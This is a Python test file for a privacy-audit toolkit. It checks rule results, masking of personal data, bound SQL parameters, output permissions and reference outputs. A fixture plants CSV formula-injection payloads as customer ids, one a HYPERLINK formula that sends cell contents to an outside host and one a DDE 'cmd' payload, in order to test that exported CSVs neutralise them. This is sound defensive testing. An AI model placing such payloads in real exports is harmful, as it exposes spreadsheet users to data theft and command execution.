"""The rule engine: outputs of contract section 6, run history, errors, needs, bound parameters."""

from __future__ import annotations

import csv
import dataclasses
import json
from datetime import date, datetime, timezone
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from typer.testing import CliRunner

import toolkit
from toolkit import findings, rules
from toolkit.cli import app
from toolkit.exceptions import PrivauditError
from toolkit.policy import load_policy

from .rules.conftest import build_db

PEOPLE = [("c1", "Jozefien", "Oudshoorn-Verbeek", "jozefien.oudshoorn@example.nl", "0687654321"),
          ("c2", "Wilhelmus", "Zwanenburg", "w.zwanenburg@example.nl", "0611223344")]


def shop(tmp_path: Path) -> Path:
    return build_db(tmp_path / "shop.duckdb", {
        "customers": [{"customer_id": c, "person_key": c, "created_at": "2022-01-01T00:00:00Z",
                       "first_name": f, "last_name": l, "email": e, "phone": p, "status": "active"}
                      for c, f, l, e, p in PEOPLE],
        "visits": [{"visit_id": "v1", "customer_id": "c1", "started_at": "2023-01-05T10:00:00Z",
                    "origin": "web", "is_bot": False},
                   {"visit_id": "v2", "customer_id": "c2", "started_at": "2025-02-01T10:00:00Z",
                    "origin": "web", "is_bot": False}],
        "orders": [{"order_id": "o1", "customer_id": "c1", "placed_at": "2023-01-05T10:00:00Z",
                    "email_at_order": PEOPLE[0][3], "phone_at_order": PEOPLE[0][4],
                    "billing_name": "Jozefien Oudshoorn-Verbeek"}],
        "dsr_requests": [{"dsr_id": "d1", "customer_id": "c2", "type": "access",
                          "received_at": "2024-12-01T10:00:00Z", "answered_at": None}],
    })


def test_outputs_of_contract_section_6(tmp_path):
    db = shop(tmp_path)
    out = tmp_path / "out"
    res = toolkit.audit(db, "2025-03-02", out=out)
    got = {r.rule_id: r.violations for r in res.rules if r.status == "evaluated"}
    assert got == {"RET-001": 1, "RET-005": 0, "RET-006": 1, "RET-014": 0, "DSR-001": 1,
                   "TRN-001": 0}
    assert {r.status for r in res.rules if r.rule_id not in got} == {"not_evaluable"}
    df = pd.read_parquet(out / "findings.parquet")
    assert list(df.columns) == findings.FINDING_COLUMNS
    assert list(pd.read_csv(out / "findings.csv").columns) == findings.FINDING_COLUMNS
    assert sorted(df["rule_id"]) == ["DSR-001", "RET-001", "RET-006"]
    row = df[df.rule_id == "RET-001"].iloc[0]
    assert (row.subject_table, row.subject_id, row.customer_id, row.severity) == (
        "customers", "c1", "c1", "S2")
    assert (row.due_date, row.days_overdue) == ("2024-01-05", 422)
    with open(out / "rules.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == findings.RULE_COLUMNS
    assert {r["rule_id"]: r["status"] for r in rows}["RET-001"] == "evaluated"
    m = json.loads((out / "manifest.json").read_text())
    assert m["toolkit_version"] == toolkit.__version__
    assert m["policy"]["sha256"] == load_policy().sha256
    assert m["as_of_date"] == "2025-03-02"
    assert m["tables"]["customers"]["rows_as_of"] == 2
    assert m["rules"]["DSR-001"]["violations"] == 1


def test_no_personal_data_in_any_output(tmp_path):
    db = shop(tmp_path)
    out = tmp_path / "out"
    res = toolkit.audit(db, "2025-03-02", out=out)
    cli = CliRunner().invoke(app, ["audit", "--db", str(db), "--as-of", "2025-03-02"])
    texts = [p.read_bytes().decode("utf-8", "replace") for p in out.iterdir()] + [cli.output]
    con = duckdb.connect(str(db), read_only=True)
    texts += [" ".join(map(str, r)) for r in con.execute("SELECT * FROM findings").fetchall()]
    con.close()
    for _, first, last, email, phone in PEOPLE:
        for secret in (first, last, email, phone, "Oudshoorn"):
            assert not any(secret in t for t in texts), secret
    assert any("j***@example.nl" in t for t in texts) is False  # evidence names fields, not values
    assert res.findings


def test_reveal_is_explicit(tmp_path):
    db = shop(tmp_path)
    res = CliRunner().invoke(app, ["audit", "--db", str(db), "--as-of", "2025-03-02", "--reveal"])
    assert res.exit_code == 0 and "NOT masked" in res.output


def test_runs_are_kept_in_the_database(tmp_path):
    db = shop(tmp_path)
    a = toolkit.audit(db, "2025-03-02")
    b = toolkit.audit(db, "2025-06-01", rules="RET-*")
    con = duckdb.connect(str(db), read_only=True)
    assert con.execute("SELECT run_id, count(*) FROM findings GROUP BY 1 ORDER BY 1").fetchall() == \
        sorted([(a.run_id, len(a.findings)), (b.run_id, len(b.findings))])
    assert con.execute("SELECT count(DISTINCT run_id), count(*) FROM rule_results").fetchone() == (
        2, len(a.rules) + len(b.rules))
    assert con.execute("SELECT count(*) FROM runs").fetchone()[0] == 2
    con.close()


def test_one_rules_error_does_not_stop_the_others(tmp_path, monkeypatch):
    db = shop(tmp_path)
    broken = dataclasses.replace(rules.REGISTRY["RET-005"], sql=lambda p: "SELECT * FROM nowhere")
    monkeypatch.setitem(rules.REGISTRY, "RET-005", broken)
    out = tmp_path / "out"
    res = toolkit.audit(db, "2025-03-02", out=out)
    st = {r.rule_id: r.status for r in res.rules}
    assert st["RET-005"] == "error" and st["RET-001"] == "evaluated" and st["DSR-001"] == "evaluated"
    assert "nowhere" in next(r for r in res.rules if r.rule_id == "RET-005").error
    cli = CliRunner().invoke(app, ["audit", "--db", str(db), "--as-of", "2025-03-02"])
    assert cli.exit_code == 2 and "RET-005" in cli.output


def test_missing_tables_make_rules_not_evaluable(tmp_path):
    db = build_db(tmp_path / "a.duckdb", {"customers": [{"customer_id": "c1"}]})
    res = toolkit.audit(db, "2025-03-02")
    got = {r.rule_id: (r.status, r.missing) for r in res.rules}
    assert got["RET-001"] == ("not_evaluable", "visits")
    assert got["DSR-001"] == ("not_evaluable", "dsr_requests")
    assert got["RET-014"] == ("not_evaluable", "customers.status")


def test_rule_patterns_and_disabled_rules(tmp_path):
    db = shop(tmp_path)
    assert [r.rule_id for r in toolkit.audit(db, "2025-03-02", rules="RET-00[15],dsr-001").rules] == [
        "RET-001", "RET-005", "DSR-001"]
    with pytest.raises(PrivauditError, match="matches no rule"):
        toolkit.audit(db, "2025-03-02", rules="XYZ-*")
    res = toolkit.audit(db, "2025-03-02", policy="example-24-months")
    assert {r.rule_id: r.status for r in res.rules}["RET-006"] == "disabled"


def test_unknown_rule_in_policy_is_refused(tmp_path):
    pol = load_policy()
    bad = pol.model_copy(update={"rules": {**pol.rules, "RET-999": pol.rules["RET-001"]}})
    with pytest.raises(PrivauditError, match="rules.RET-999: no such rule"):
        toolkit.audit(shop(tmp_path), "2025-03-02", policy=bad)


def test_as_of_a_date_is_the_end_of_that_amsterdam_day():
    ts, d = findings.parse_as_of("2025-03-01")
    assert d == date(2025, 3, 1)
    assert ts.astimezone(timezone.utc) == datetime(2025, 3, 1, 22, 59, 59, 999999, tzinfo=timezone.utc)
    ts, d = findings.parse_as_of("2025-03-01T23:30:00Z")
    assert d == date(2025, 3, 2)
    with pytest.raises(PrivauditError, match="--as-of"):
        findings.parse_as_of("01-03-2025")


def test_policy_values_are_bound_never_formatted_into_sql():
    pol = load_policy()
    odd = pol.model_copy(update={
        "retention": pol.retention.model_copy(update={"inactivity_months": 977, "grace_days": 971,
                                                      "fiscal_years": 67, "fiscal_year_end": "11-29"}),
        "dsr": pol.dsr.model_copy(update={"deadline_months": 53})})
    params = findings.parameters(odd, datetime(2025, 3, 2, tzinfo=timezone.utc), date(2025, 3, 2))
    for rule in rules.REGISTRY.values():
        sql = rule.sql(odd) + rule.population_sql(odd)
        for v in ("977", "971", "67", "11-29", "53", "2025-03-02"):
            assert v not in sql, (rule.id, v)
        findings.bind(sql, params)      # every $name resolves
    with pytest.raises(PrivauditError, match="unknown parameters: nope"):
        findings.bind("SELECT $nope", params)


def test_missing_database_is_a_one_line_error(tmp_path):
    res = CliRunner().invoke(app, ["audit", "--db", str(tmp_path / "x.duckdb"), "--as-of", "2025-03-02"])
    assert res.exit_code == 2 and res.output.startswith("error:") and "database not found" in res.output


def test_cli_audit_prints_the_per_rule_table(tmp_path):
    db = shop(tmp_path)
    res = CliRunner().invoke(app, ["audit", "--db", str(db), "--as-of", "2025-03-02",
                                   "--out", str(tmp_path / "o")])
    assert res.exit_code == 0, res.output
    line = next(ln for ln in res.output.splitlines() if "RET-001" in ln)
    cells = [c.strip() for c in line.split("│")]
    assert cells[3:8] == ["S2", "evaluated", "2", "1", ""]
    assert (tmp_path / "o" / "findings.csv").exists()


def test_load_run_and_history(tmp_path):
    db = shop(tmp_path)
    with pytest.raises(PrivauditError, match="no audit run"):
        findings.load_run(db)
    first = toolkit.audit(db, "2025-03-02")
    toolkit.audit(db, "2025-06-02", store=False)           # not kept
    run, rules_df, found = findings.load_run(db)
    assert run.run_id[0] == first.run_id
    assert len(rules_df) == len(first.rules) and len(found) == len(first.findings)
    assert isinstance(found.details[0], dict)
    hist = findings.run_history(db)
    assert set(hist.run_id) == {first.run_id}


# ---------------------------------------------------------------- nothing leaks, nothing runs

HOSTILE_ID = "=HYPERLINK(\"http://x.nl/?e=\"&A1,\"klik\")"


def hostile_shop(tmp_path: Path) -> Path:
    """Customer ids that are e-mail addresses or formulas, a title that is a formula."""
    return build_db(tmp_path / "hostile.duckdb", {
        "customers": [{"customer_id": cid, "person_key": cid, "created_at": "2022-01-01T00:00:00Z",
                       "first_name": "Piet", "status": "active"}
                      for cid in ("jan.jansen@ziggo.nl", HOSTILE_ID, "-2+3+cmd|' /C calc'!A0")],
        "visits": [{"visit_id": f"v{i}", "customer_id": cid, "started_at": "2023-01-05T10:00:00Z",
                    "origin": "web", "is_bot": False}
                   for i, cid in enumerate(("jan.jansen@ziggo.nl", HOSTILE_ID,
                                            "-2+3+cmd|' /C calc'!A0"))],
    })


def test_subject_and_customer_ids_are_masked_like_evidence(tmp_path):
    db = hostile_shop(tmp_path)
    res = toolkit.audit(db, "2025-03-02", rules="RET-001", out=tmp_path / "out")
    ids = sorted(f["subject_id"] for f in res.findings)
    assert "j***@ziggo.nl" in ids and "jan.jansen@ziggo.nl" not in ids
    assert all(f["customer_id"] == f["subject_id"] for f in res.findings)
    blob = "".join(p.read_text(encoding="utf-8", errors="replace")
                   for p in (tmp_path / "out").iterdir() if p.suffix != ".parquet")
    blob += pd.read_parquet(tmp_path / "out" / "findings.parquet").to_csv()
    con = duckdb.connect(str(db), read_only=True)
    blob += str(con.execute("SELECT * FROM findings").fetchall())
    con.close()
    assert "jan.jansen" not in blob
    revealed = toolkit.audit(db, "2025-03-02", rules="RET-001", reveal=True, store=False)
    assert "jan.jansen@ziggo.nl" in {f["subject_id"] for f in revealed.findings}


def test_written_csvs_have_no_formula_cells(tmp_path):
    from .test_outputs import assert_spreadsheet_safe
    db = hostile_shop(tmp_path)
    pol = load_policy()
    rules_ = dict(pol.rules)
    rules_["RET-001"] = rules_["RET-001"].model_copy(update={"title": "=1+1 @SUM -3 +x"})
    res = toolkit.audit(db, "2025-03-02", policy=pol.model_copy(update={"rules": rules_}),
                        rules="RET-001", out=tmp_path / "out")
    assert len(res.findings) == 3
    for name in ("findings.csv", "rules.csv"):
        assert assert_spreadsheet_safe(tmp_path / "out" / name) > 10
    back = list(csv.DictReader(open(tmp_path / "out" / "findings.csv", newline="", encoding="utf-8")))
    assert {r["subject_id"] for r in back} >= {"'" + HOSTILE_ID, "'-2+3+cmd|' /C calc'!A0"}
    assert {r["days_overdue"] for r in back} == {"422"}
    # Parquet keeps the exact values (for programs)
    df = pd.read_parquet(tmp_path / "out" / "findings.parquet")
    assert HOSTILE_ID in set(df["subject_id"])


def test_outputs_are_owner_only_whatever_the_umask(tmp_path):
    import os
    import stat
    db = shop(tmp_path)
    old = os.umask(0)
    try:
        toolkit.audit(db, "2025-03-02", out=tmp_path / "new" / "out")
    finally:
        os.umask(old)
    out = tmp_path / "new" / "out"
    assert stat.S_IMODE(os.stat(tmp_path / "new").st_mode) == 0o700
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o700
    for p in out.iterdir():
        assert stat.S_IMODE(os.stat(p).st_mode) == 0o600, p
    assert {p.name for p in out.iterdir()} == {"findings.parquet", "findings.csv", "rules.csv",
                                                "manifest.json"}


def test_findings_of_every_rule_are_byte_identical_to_the_reference(tmp_path):
    """Issue 16: the findings files of every rule on a generated shop (300 customers, a fifth of
    them with planted violations) equal the reference written before the findings path changed
    (tests/findings_reference.py says how to rewrite it when a rule changes on purpose)."""
    from . import findings_reference as ref
    got = ref.files(*ref.run(tmp_path))
    want_csv = (ref.HERE / "findings.csv").read_bytes().decode("utf-8")
    want_parquet = (ref.HERE / "findings.parquet.json").read_text(encoding="utf-8")
    rules_seen = {line.split(",")[2] for line in want_csv.splitlines()[1:] if line.startswith("RUN,")}
    assert len(rules_seen) >= 20                      # the reference covers most rules
    assert got["findings.csv"] == want_csv
    assert got["findings.parquet.json"] == want_parquet
